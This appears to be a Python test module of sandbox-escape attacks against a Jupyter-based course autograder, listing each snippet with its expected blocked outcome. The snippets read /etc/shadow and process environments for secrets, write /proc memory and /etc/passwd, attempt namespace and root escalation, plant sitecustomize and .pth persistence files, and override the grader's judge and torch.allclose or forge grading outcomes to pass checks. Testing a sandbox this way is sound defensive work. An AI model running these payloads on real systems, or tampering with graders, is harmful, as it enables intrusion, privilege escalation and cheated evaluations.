"""Attacks on what is outside: processes, files, network, rights, the next hand-in."""

from attack import EITHER, RIGHT, Attack

__all__ = ["ESCAPES"]

EULER = (("euler-step", RIGHT["euler-step"]),)

EXITS = """
begin('os._exit')
os._exit(0)
"""

CRASHES = """
begin('a segfault')
ctypes.string_at(0)
"""

STOPS_ITSELF = """
begin('SIGSTOP')
os.kill(os.getpid(), signal.SIGSTOP)
"""

SIGNALS = """
others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
begin(f'signals to {sorted(others)}')
attempt('groups outside', lambda: [p for p in range(1, 70000)
        if p not in (os.getpgrp(), *others) and libc.killpg(p, 0) == 0])
for number in (signal.SIGSTOP, signal.SIGKILL):
    for process in (1, 2, -1):
        try:
            os.kill(process, number)
        except OSError: pass
print('attack-ran signals')
"""

NETWORK = r"""
def tcp(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        s.connect(address)
        s.send(b'from inside')
        return address
attempt('tcp', lambda: tcp(('127.0.0.1', @PORT@)))
attempt('tcp to the internet', lambda: tcp(('192.0.2.1', 80)))
attempt('abstract socket', lambda: tcp('\0@ABSTRACT@', socket.AF_UNIX))
attempt('socket file', lambda: tcp('@SOCKET@', socket.AF_UNIX))
attempt('names', lambda: socket.getaddrinfo('example.org', 80))
attempt('the log of the kernel', lambda: open('/dev/kmsg').read(1))
attempt('raw packets', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('ping', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt('interfaces', lambda: {n for _, n in socket.if_nameindex()} - {'lo'})
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b'from inside', ('127.0.0.1', @PORT@))
attempt('udp', udp)
"""

SOCKET_TO_THE_HOST = """
attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM).family)
"""

READS_THE_ENVIRONMENT = """
def search():
    found = [name for name in os.environ if 'ATTACK' in name]
    for process in [p for p in os.listdir('/proc') if p.isdigit()] + ['self']:
        for file in ('environ', 'cmdline'):
            try:
                with open(f'/proc/{process}/{file}', 'rb') as f: text = f.read()
            except OSError: continue
            found += [text] * (b'ATTACK_' + b'SECRET' in text)
    return found
attempt('environments', search)
print(dict(os.environ))
"""

READS_OUTSIDE = """
def look(path):
    with open(path) as file: return file.read()
def through(folder, path):
    number = os.open(folder, os.O_PATH)
    climb = '../' * 12 + path.lstrip('/')
    with open(os.open(climb, os.O_RDONLY, dir_fd=number)) as file: return file.read()
for path in @CANARIES@:
    attempt('directly', lambda: look(path))
    for root in ('/proc/1/root', '/proc/2/root', '/proc/self/root', '/proc/1/cwd'):
        attempt(f'by {root}', lambda: look(root + path))
    attempt('by a link', lambda: os.path.lexists('l') or os.symlink(path, 'l') or look('l'))
    os.unlink('l')
    attempt('by climbing', lambda: through('.', path))
    attempt('as a name', lambda: os.path.exists(path))
attempt('passwords', lambda: look('/etc/shadow'))
attempt('home of root', lambda: set(os.listdir('/root')) - {'.pyenv', '.local'})
"""

SEARCHES = """
def search():
    wanted = {'solutions', 'gradebook.db', 'submitted', 'autograded', 'right_answers.py',
              'verdicts.json', 'nbgrader_config.py', 'perfect', 'canary', '.git', '.ssh'}
    found = []
    for folder, folders, names in os.walk('/'):
        if folder == '/': folders[:] = [n for n in folders if n not in ('proc', 'sys')]
        if 'site-packages' in folder or folder.startswith('/usr/'): folders[:] = []
        found += [os.path.join(folder, n) for n in {*folders, *names} & wanted]
    return [f for f in found if not f.startswith(sys.prefix + '/share/')]
attempt('names', search)
attempt('the grader', lambda: __import__('importlib').util.find_spec('course_lib.grading'))
"""

ANSWER_KEY = """
import gc, pathlib, re, importlib, marshal
from course_lib.checks import checks_of, find_check
known = {'answer', 'mistakes', 'key', 'replies', 'also', 'judge'}
def members():
    return [(name, word) for lab in ('lab1', 'lab2', 'lab3')
            for name, c in checks_of(lab).items() for word in known & vars(c).keys()]
def asked():
    try:
        return find_check('lab1', 'heun-step').answer(None, 1, 2, 3)
    except NotImplementedError: return None
def in_files():
    root = pathlib.Path(course_lib.__file__).parent / 'checks'
    words = (b'choose' + b' again', b'averaged-from' + b'-the-guess', b'4890536ace0' + b'2d31d')
    return [(p, w) for p in root.rglob('*') if p.is_file() for w in words
            if w in p.read_bytes()]
def in_memory():
    words = ('averaged-from' + '-the-guess', '4890536ace0' + '2d31d')
    spaces = [d for d in gc.get_objects() if type(d) is dict and '__name__' in d]
    return [w for d in spaces for v in list(d.values()) for w in words
            if isinstance(v, str) and v == w]
for name, search in (('members', members), ('the method', asked), ('files', in_files),
                     ('memory', in_memory)): attempt(name, search)
"""

OTHER_PROCESSES = """
def into(process):
    with open(f'/proc/{process}/maps') as file:
        start = next(int(l.split('-')[0], 16) for l in file if ' rw-p ' in l)
    number = os.open(f'/proc/{process}/mem', os.O_RDWR)
    written = os.pwrite(number, os.pread(number, 8, start), start)
    with open(f'/proc/{process}/status') as file:  # of one that has no more rights, nothing is won
        return 'Seccomp:\\t2' not in file.read() and written
class Span(ctypes.Structure):
    _fields_ = [('at', ctypes.c_void_p), ('size', ctypes.c_size_t)]
def peek(process):
    room = ctypes.create_string_buffer(8)
    here, there = Span(ctypes.addressof(room), 8), Span(0x10000, 8)
    done = libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if ctypes.get_errno() == 14: return 'may, but not there'
    return called(done)
attempt('a parent', os.getppid)
others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
attempt('processes that are not the sandbox', lambda: set(others) - {1, 2})
for process in (1, 2):
    attempt(f'ptrace {process}', lambda: called(libc.ptrace(16, process, None, None)))
    attempt(f'reading {process}', lambda: peek(process))
    attempt(f'memory of {process}', lambda: into(process))
    attempt(f'files of {process}', lambda: called(libc.syscall(438, os.pidfd_open(process), 0, 0)))
attempt('a process of the machine', lambda: [p for p in range(4, 70000)
    if p != os.getpid() and os.path.exists(f'/proc/{p}')
    and not os.path.exists(f'/proc/self/task/{p}')])
"""

INHERITED_FILES = """
import stat
def inherited():
    found = []
    for number in range(4097):
        try:
            kind, where = os.fstat(number).st_mode, os.readlink(f'/proc/self/fd/{number}')
        except OSError: continue
        if stat.S_ISSOCK(kind):
            s = socket.socket(fileno=os.dup(number))
            if s.type == socket.SOCK_SEQPACKET: found.append((number, s.send(b'{}')))
            s.close()
        elif stat.S_ISDIR(kind): found.append((number, os.listdir(number)))
        elif stat.S_ISREG(kind) and not where.startswith(('/proc/', '/tmp/')):
            found.append((number, where, os.write(number, b'x')))
    return found
attempt('inherited files', inherited)
attempt('folders of other kernels', lambda: [n for n in os.listdir('@TMP@')
                                           if not n.startswith('course-view-')])
def sockets():
    with open('/proc/net/unix') as file:
        paths = {line.split()[-1] for line in file if '/k-' in line}
    return {p.rpartition('/k-')[0] for p in paths if not p.startswith('/proc/self/fd/')}
attempt('sockets of other kernels', sockets)
def connect():
    for number in range(5000):
        with socket.socket(socket.AF_UNIX) as s:
            try: s.connect(f'/proc/self/fd/{number}/k-1')
            except OSError: continue
            return number
attempt('a way to the own socket', connect)
"""

POISONS_THE_NEXT = """
begin('what one can write to')
import importlib, pathlib, types
for where in (builtins, torch, course_lib, sys): where.attack_was_here = True
torch.allclose = torch.equal = lambda *a, **k: True
import course_lib.checks.judge as judging
judging.judge = lambda check, outcome, seed: print('judged by the attack')
sys.modules['attack_module'] = types.ModuleType('attack_module')
os.environ['ATTACK_LEFT'] = os.environ['PYTHONSTARTUP'] = '1'
matplotlib.rcParams['font.size'] = 3
for place in ('/tmp', '/tmp/home', '/dev/shm', '.'):
    for name in ('sitecustomize.py', 'torch.py', 'matplotlibrc', 'poison.pth'):
        pathlib.Path(place, name).write_text('1 / 0')
startup = pathlib.Path('/tmp/home/ipython/profile_default/startup')
startup.mkdir(parents=True, exist_ok=True)
(startup / '00.py').write_text('1 / 0')
"""

WRITES_OUTSIDE = """
import site, pathlib, sysconfig
def write(path):
    with open(path, 'a') as file: return file.write('attack') and path
def fresh(path):
    os.makedirs(path, exist_ok=True)
    return write(path + '/attack.py')
view = str(pathlib.Path(course_lib.__file__).parent)
for path in @CANARIES@: attempt('canaries', lambda: write(path))
attempt('the library', lambda: write(view + '/checks/judge.py'))
attempt('its cache', lambda: fresh(view + '/checks/__pycache__'))
attempt('its folder', lambda: os.rename(view, view + '2') or view)
attempt('its rights', lambda: os.chmod(view, 0o777) or view)
for folder in (*site.getsitepackages(), sysconfig.get_path('stdlib'), sys.prefix + '/bin'):
    attempt('packages', lambda: fresh(folder))
    attempt('a .pth', lambda: write(folder + '/attack.pth'))
for path in ('/etc/passwd', '/etc/ld.so.preload', '/usr/bin/attack', '/srv/attack',
             '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/proc/1/comm',
             '/proc/1/oom_score_adj', '/proc/self/uid_map', '/dev/attack', '/dev/mem'):
    attempt(path, lambda: write(path))
os.symlink('/etc/passwd', 'link')
attempt('a link', lambda: write('link'))
attempt('a hard link', lambda: os.link('/etc/passwd', '/tmp/hard') or write('/tmp/hard'))
"""

NEW_RIGHTS = """
import subprocess
def run(*words):
    done = subprocess.run(words, capture_output=True, stdin=subprocess.DEVNULL, timeout=5)
    return done.returncode == 0 and done.stdout
flags = {'user': 0x10000000, 'mount': 0x20000, 'net': 0x40000000, 'pid': 0x20000000,
         'ipc': 0x8000000, 'uts': 0x4000000, 'cgroup': 0x2000000, 'time': 0x80}
child = ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 0)
stack = ctypes.create_string_buffer(2**16)
top = ctypes.c_void_p(ctypes.addressof(stack) + 2**16 - 64)
for name, flag in flags.items():
    attempt(f'unshare {name}', lambda: called(libc.unshare(flag)))
    if name == 'time':  # for clone, these bits mean another thing
        continue
    attempt(f'clone {name}', lambda: called(libc.clone(child, top, flag | 17, None)))
attempt('clone3', lambda: called(libc.syscall(435, ctypes.create_string_buffer(88), 88)))
attempt('setns', lambda: called(libc.setns(os.open('/proc/1/ns/mnt', 0), 0)))
attempt('mount', lambda: called(libc.mount(b'x', b'/tmp/home', b'tmpfs', 0, None)))
attempt('remount', lambda: called(libc.mount(None, b'/usr', None, 0x1020, None)))
attempt('umount', lambda: called(libc.umount2(b'/dev/shm', 2)))
attempt('chroot', lambda: os.chroot('/tmp') or 1)
attempt('root', lambda: os.setuid(0) or os.getuid() == 0)
attempt('groups', lambda: os.setgroups([0]) or 1)
attempt('device', lambda: os.mknod('/tmp/disk', 0o60600, os.makedev(254, 0)) or 1)
attempt('priority', lambda: os.setpriority(os.PRIO_PROCESS, 0, -5) or 1)
attempt('io_uring', lambda: called(libc.syscall(425, 8, ctypes.create_string_buffer(120))))
for words in (['unshare', '-Ur', 'id'], ['su', '-c', 'id'], ['mount', '-t', 'proc', 'p', '/tmp'],
              ['bwrap', '--dev-bind', '/', '/', 'id'], ['sudo', '-n', 'id']):
    attempt(words[0], lambda: run(*words))
"""

LATE_THREAD = """
answer = @HEUN@
begin('a thread that outlives its cell')
kernel = get_ipython().kernel
now = {}
get_ipython().events.register('pre_run_cell',
    lambda info: now.update(code=info.raw_cell, parent=kernel.get_parent('shell')))
def later():
    from course_lib.checks import execute, find_check
    from course_lib.checks.rng import derive_seed
    space = {'torch': torch}
    exec(answer, space)
    while 'HeunStep' not in now.get('code', ''):
        time.sleep(0.001)
    seed = derive_seed(int(os.environ['COURSE_GRADING_SEED']), 'heun-step')
    outcome = execute(find_check('lab1', 'heun-step'), (space['heun_step'],), seed)
    data = {'application/vnd.course-lib.outcome+json': outcome.to_json()}
    content = {'data': data, 'metadata': {}}
    kernel.session.send(kernel.iopub_socket, 'display_data', content, parent=now['parent'])
threading.Thread(target=later, daemon=True).start()
""".replace("@HEUN@", repr(RIGHT["heun-step"]))

ESCAPES = [
    Attack(
        "exits",
        EXITS,
        earned=("euler-step",),
        tried=("os._exit",),
        status=("cut short",),
        reason="the kernel died in cell",
    ),
    Attack(
        "crashes",
        CRASHES,
        earned=("euler-step",),
        tried=("a segfault",),
        status=("cut short",),
        reason="the kernel died in cell",
    ),
    Attack(
        "stops-itself",
        STOPS_ITSELF,
        earned=("euler-step",),
        tried=("SIGSTOP",),
        status=("cut short",),
        reason="the kernel stopped answering in cell",
    ),
    Attack(
        "signals",
        SIGNALS,
        answers=EULER,
        earned=("euler-step",),
        tried=("signals to [1, 2]",),
        status=EITHER,
    ),
    Attack(
        "network",
        NETWORK,
        tried=("tcp", "abstract socket", "socket file", "names", "raw packets", "interfaces"),
    ),
    Attack(
        "socket-to-the-host",
        SOCKET_TO_THE_HOST,
        tried=("vsock",),
    ),
    Attack(
        "reads-the-environment",
        READS_THE_ENVIRONMENT,
        tried=("environments",),
    ),
    Attack(
        "reads-outside",
        READS_OUTSIDE,
        tried=("directly", "by /proc/1/root", "by a link", "by climbing", "as a name"),
    ),
    Attack(
        "searches",
        SEARCHES,
        tried=("names", "the grader"),
    ),
    Attack(
        "answer-key",
        ANSWER_KEY,
        tried=("members", "the method", "files", "memory"),
    ),
    Attack(
        "other-processes",
        OTHER_PROCESSES,
        tried=("a parent", "ptrace 1", "memory of 1", "memory of 2", "a process of the machine"),
    ),
    Attack(
        "inherited-files",
        INHERITED_FILES,
        tried=("inherited files", "folders of other kernels", "sockets of other kernels"),
    ),
    Attack(
        "poisons-the-next",
        POISONS_THE_NEXT,
        tried=("what one can write to",),
    ),
    Attack(
        "writes-outside",
        WRITES_OUTSIDE,
        tried=(
            "canaries",
            "the library",
            "its cache",
            "packages",
            "a .pth",
            "/etc/passwd",
            "a link",
        ),
    ),
    Attack(
        "new-rights",
        NEW_RIGHTS,
        tried=("unshare user", "clone user", "clone3", "setns", "mount", "root", "su", "bwrap"),
    ),
    Attack(
        "late-thread",
        LATE_THREAD,
        answers=(
            *EULER,
            (
                "heun-step",
                "import time\ndef heun_step(velocity, x, t, h):\n    time.sleep(0.5)\n    return x",
            ),
        ),
        earned=("euler-step",),
        tried=("a thread that outlives its cell",),
        faults=(("heun-step", "several-outcomes"),),
        reason="look at heun-step",
    ),
]
